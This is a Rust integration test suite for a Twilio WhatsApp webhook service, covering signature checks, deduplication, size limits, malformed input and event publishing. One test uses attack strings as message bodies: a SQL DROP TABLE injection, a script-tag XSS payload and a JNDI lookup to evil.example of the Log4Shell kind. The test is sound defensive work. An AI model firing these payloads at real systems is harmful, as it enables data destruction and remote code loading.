use std::time::Duration;

use prm_domain::events::MessageProvider;

use crate::helpers::*;

#[tokio::test]
async fn a_signed_message_becomes_one_event_with_e164_numbers() {
    let app = spawn_app().await;
    let sid = unique_sid();
    twiml(
        app.post_twilio(
            TWILIO_PATH,
            &twilio_message(&sid, "Hola, quiero agendar una cita"),
        )
        .await,
    )
    .await;

    let events = app.received(&sid).await;
    assert_eq!(events.len(), 1);
    let data = &events[0];
    assert_eq!(data["provider"], "twilio");
    assert_eq!(data["channel"], "whatsapp");
    assert_eq!(data["from"], "+573001234567");
    assert_eq!(data["to"], "+14155238886");
    assert_eq!(data["body"], "Hola, quiero agendar una cita");
    assert_eq!(data["profile_name"], "María Pérez");
    assert_eq!(data["wa_id"], "573001234567");
    assert_eq!(data["media"], serde_json::json!([]));
    assert!(data["transcription"].is_null());
    assert!(
        data["message_id"]
            .as_str()
            .is_some_and(|id| uuid::Uuid::parse_str(id).is_ok())
    );
    let envelope = app.events("MESSAGE_RECEIVED").await.remove(0);
    assert_eq!(envelope.source, "webhooks");
    assert_eq!(app.rows(MessageProvider::Twilio, &sid).await, 1);
}

#[tokio::test]
async fn the_same_message_sid_20_times_at_once_gives_one_event_and_one_row() {
    let app = spawn(Spawn::new().redis()).await;
    assert_eq!(app.service().inbox().dedup_backend(), "redis");
    twenty_concurrent_copies_give_one_event(&app).await;
}

#[tokio::test]
async fn with_redis_unset_the_in_memory_markers_dedup_over_http() {
    let app = spawn(Spawn::new().memory_state()).await;
    assert!(!app.uses_redis());
    assert_eq!(app.service().inbox().dedup_backend(), "memory");
    twenty_concurrent_copies_give_one_event(&app).await;
}

async fn twenty_concurrent_copies_give_one_event(app: &TestApp) {
    let sid = unique_sid();
    let form = twilio_message(&sid, "¿Tienen cita mañana?");
    let responses =
        futures::future::join_all((0..20).map(|_| app.post_twilio(TWILIO_PATH, &form))).await;
    for r in responses {
        assert_eq!(r.status(), 200);
    }
    // And later redeliveries, as Twilio retries.
    for _ in 0..3 {
        twiml(app.post_twilio(TWILIO_PATH, &form).await).await;
    }
    assert_eq!(app.received(&sid).await.len(), 1);
    assert_eq!(app.rows(MessageProvider::Twilio, &sid).await, 1);
}

#[tokio::test]
async fn the_database_guard_holds_when_the_dedup_marker_is_gone() {
    // Two replicas on one database whose markers are not shared (Redis flushed, or down).
    let first = spawn_app().await;
    let second = spawn(Spawn::new().same_database(&first)).await;
    let sid = unique_sid();
    let form = twilio_message(&sid, "hola");
    let (a, b) = tokio::join!(
        futures::future::join_all((0..10).map(|_| first.post_twilio(TWILIO_PATH, &form))),
        futures::future::join_all((0..10).map(|_| second.post_twilio(TWILIO_PATH, &form))),
    );
    assert!(a.iter().chain(b.iter()).all(|r| r.status() == 200));
    assert_eq!(first.received(&sid).await.len(), 1);
    assert_eq!(first.rows(MessageProvider::Twilio, &sid).await, 1);
}

#[tokio::test]
async fn injection_strings_and_emoji_are_kept_byte_for_byte() {
    let app = spawn_app().await;
    let bodies = [
        "'; DROP TABLE inbound_messages; --",
        "<script>alert('x')</script> & <Response><Message>hi</Message></Response>",
        "{{7*7}} ${jndi:ldap://evil.example/a} %s %n \\u0000 \\\"",
        "  leading and trailing spaces \r\n second line\t",
        "😀👩🏽‍⚕️🇨🇴 ñandú — «cita» 日本語 \u{200d}\u{fe0f}",
        "a=b&c=d+e%20f",
    ];
    for (i, body) in bodies.iter().enumerate() {
        let sid = format!("{}{i}", unique_sid());
        twiml(
            app.post_twilio(TWILIO_PATH, &twilio_message(&sid, body))
                .await,
        )
        .await;
        let events = app.received(&sid).await;
        assert_eq!(events.len(), 1);
        assert_eq!(
            events[0]["body"].as_str().unwrap().as_bytes(),
            body.as_bytes(),
            "body {i}"
        );
    }
    app.assert_healthy().await;
}

#[tokio::test]
async fn a_2_mib_body_is_413_and_nothing_is_stored() {
    let app = spawn_app().await;
    let sid = unique_sid();
    let mut form = twilio_message(&sid, &"x".repeat(2 * 1024 * 1024));
    form.push(("Extra".into(), "y".into()));
    let r = app.post_twilio(TWILIO_PATH, &form).await;
    problem(r, 413, "payload_too_large").await;
    let r = app
        .post_raw(
            STATUS_PATH,
            "application/x-www-form-urlencoded",
            vec![b'a'; 70 * 1024],
            &[("X-Twilio-Signature", "x")],
        )
        .await;
    problem(r, 413, "payload_too_large").await;
    assert_eq!(app.total_rows().await, 0);
    assert_eq!(app.total_events().await, 0);
    app.assert_healthy().await;
}

#[tokio::test]
async fn a_missing_signature_is_400_and_a_wrong_one_403_with_nothing_stored() {
    let app = spawn_app().await;
    let sid = unique_sid();
    let form = twilio_message(&sid, "hola");

    let r = app.post_form(TWILIO_PATH, &form, None).await;
    let body = problem(r, 400, "bad_request").await;
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("X-Twilio-Signature")
    );

    let r = app
        .post_form(TWILIO_PATH, &form, Some("bm90IGEgc2lnbmF0dXJl"))
        .await;
    problem(r, 403, "invalid_signature").await;

    // Signed for the address we actually called (what a Host-header check would accept).
    let host_url = app.url(TWILIO_PATH);
    let signature = prm_twilio::RequestValidator::new(secrecy::SecretString::from(TWILIO_TOKEN))
        .compute_signature(&host_url, &form);
    let r = app.post_form(TWILIO_PATH, &form, Some(&signature)).await;
    problem(r, 403, "invalid_signature").await;

    // Signed correctly, then tampered with.
    let signature = twilio_signature(TWILIO_PATH, &form);
    let mut tampered = form.clone();
    tampered
        .iter_mut()
        .filter(|(k, _)| k == "Body")
        .for_each(|(_, v)| *v = "hola!".into());
    let r = app
        .post_form(TWILIO_PATH, &tampered, Some(&signature))
        .await;
    problem(r, 403, "invalid_signature").await;

    assert_eq!(app.total_rows().await, 0);
    assert_eq!(app.total_events().await, 0);
    // The rejected deliveries left no marker behind: the genuine one still goes through.
    twiml(app.post_twilio(TWILIO_PATH, &form).await).await;
    assert_eq!(app.received(&sid).await.len(), 1);
}

#[tokio::test]
async fn the_query_string_is_part_of_the_signed_url() {
    let app = spawn_app().await;
    let sid = unique_sid();
    let path = format!("{TWILIO_PATH}?clinic=norte&v=2");
    twiml(app.post_twilio(&path, &twilio_message(&sid, "hola")).await).await;
    // The same signature without the query does not verify.
    let form = twilio_message(&unique_sid(), "hola");
    let signature = twilio_signature(TWILIO_PATH, &form);
    let r = app.post_form(&path, &form, Some(&signature)).await;
    problem(r, 403, "invalid_signature").await;
    assert_eq!(app.received(&sid).await.len(), 1);
}

#[tokio::test]
async fn without_an_auth_token_twilio_routes_refuse_everything() {
    let app = spawn_app_with(&[("TWILIO_AUTH_TOKEN", "")]).await;
    let form = twilio_message(&unique_sid(), "hola");
    let r = app.post_twilio(TWILIO_PATH, &form).await;
    let body = problem(r, 503, "unavailable").await;
    assert!(
        body["detail"]
            .as_str()
            .unwrap()
            .contains("TWILIO_AUTH_TOKEN")
    );
    let r = app
        .client
        .post(app.url(STATUS_PATH))
        .form(&pairs(&[("MessageSid", "SM1"), ("MessageStatus", "sent")]))
        .send()
        .await
        .unwrap();
    problem(r, 503, "unavailable").await;
    assert_eq!(app.total_events().await, 0);
}

#[tokio::test]
async fn validation_can_be_switched_off_explicitly() {
    let app = spawn_app_with(&[
        ("TWILIO_VALIDATE_SIGNATURE", "false"),
        ("TWILIO_AUTH_TOKEN", ""),
    ])
    .await;
    let sid = unique_sid();
    let r = app
        .post_form(TWILIO_PATH, &twilio_message(&sid, "demo"), None)
        .await;
    twiml(r).await;
    assert_eq!(app.received(&sid).await.len(), 1);
    let health: serde_json::Value = app.get_json("/api/v1/prm/webhooks/health").await;
    assert_eq!(health["twilio_signature_validation"], false);
}

#[tokio::test]
async fn missing_message_sid_from_or_to_is_400() {
    let app = spawn_app().await;
    for missing in ["MessageSid", "From", "To"] {
        let form: Vec<_> = twilio_message(&unique_sid(), "hola")
            .into_iter()
            .filter(|(k, _)| k != missing)
            .collect();
        let body = problem(
            app.post_twilio(TWILIO_PATH, &form).await,
            400,
            "bad_request",
        )
        .await;
        assert!(body["detail"].as_str().unwrap().contains(missing), "{body}");
    }
    let mut form = twilio_message(&unique_sid(), "hola");
    form.iter_mut()
        .filter(|(k, _)| k == "From")
        .for_each(|(_, v)| *v = "whatsapp:not-a-number".into());
    problem(
        app.post_twilio(TWILIO_PATH, &form).await,
        400,
        "bad_request",
    )
    .await;
    assert_eq!(app.total_rows().await, 0);
    assert_eq!(app.total_events().await, 0);
}

#[tokio::test]
async fn malformed_forms_are_4xx_and_the_service_stays_healthy() {
    let app = spawn_app_with(&[("TWILIO_VALIDATE_SIGNATURE", "false")]).await;
    let bodies: Vec<Vec<u8>> = vec![
        b"".to_vec(),
        b"MessageSid".to_vec(),
        b"=&=&&==".to_vec(),
        b"%zz%%=%".to_vec(),
        vec![0xff, 0xfe, 0x00, 0x80, b'=', 0xc3],
        b"MessageSid=SM1&From=%ZZ".to_vec(),
        b"MessageSid[]=1&From[x]=2".to_vec(),
        "MessageSid=SM1&From=whatsapp:%2B5730&To=x"
            .as_bytes()
            .to_vec(),
        b"{\"MessageSid\": \"SM1\"}".to_vec(),
    ];
    for body in bodies {
        let r = app
            .post_raw(
                TWILIO_PATH,
                "application/x-www-form-urlencoded",
                body.clone(),
                &[],
            )
            .await;
        assert!(
            r.status().is_client_error(),
            "{:?} → {}",
            String::from_utf8_lossy(&body),
            r.status()
        );
    }
    // With validation on, garbage can never carry a valid signature.
    let strict = spawn_app().await;
    let r = strict
        .post_raw(
            TWILIO_PATH,
            "application/x-www-form-urlencoded",
            vec![0xff, 0xfe],
            &[("X-Twilio-Signature", "abc=")],
        )
        .await;
    problem(r, 403, "invalid_signature").await;
    app.assert_healthy().await;
    strict.assert_healthy().await;
    assert_eq!(app.total_events().await, 0);
}

#[tokio::test]
async fn media_are_listed_and_a_voice_note_without_openai_goes_out_untranscribed() {
    let app = spawn_app().await;
    let sid = unique_sid();
    let mut form = twilio_message(&sid, "");
    form.retain(|(k, _)| k != "NumMedia");
    form.extend(pairs(&[
        ("NumMedia", "2"),
        (
            "MediaUrl0",
            "https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME0",
        ),
        ("MediaContentType0", "image/jpeg"),
        (
            "MediaUrl1",
            "https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME1",
        ),
        ("MediaContentType1", "audio/ogg"),
    ]));
    twiml(app.post_twilio(TWILIO_PATH, &form).await).await;
    let events = app.received(&sid).await;
    assert_eq!(events.len(), 1, "published at once: no OpenAI configured");
    assert_eq!(
        events[0]["media"],
        serde_json::json!([
            {"url": "https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME0", "content_type": "image/jpeg"},
            {"url": "https://api.twilio.com/2010-04-01/Accounts/AC1/Messages/MM1/Media/ME1", "content_type": "audio/ogg"}
        ])
    );
    assert!(events[0]["transcription"].is_null());
}

#[tokio::test]
async fn events_reach_the_relay_and_are_marked_published() {
    let app = spawn_app().await;
    let sid = unique_sid();
    twiml(
        app.post_twilio(TWILIO_PATH, &twilio_message(&sid, "hola"))
            .await,
    )
    .await;
    eventually(
        Duration::from_secs(10),
        "the relay to publish the outbox",
        || async {
            prm_store::outbox::Outbox::WEBHOOKS
                .unpublished_count(app.db())
                .await
                .unwrap()
                == 0
        },
    )
    .await;
    assert_eq!(app.received(&sid).await.len(), 1);
}
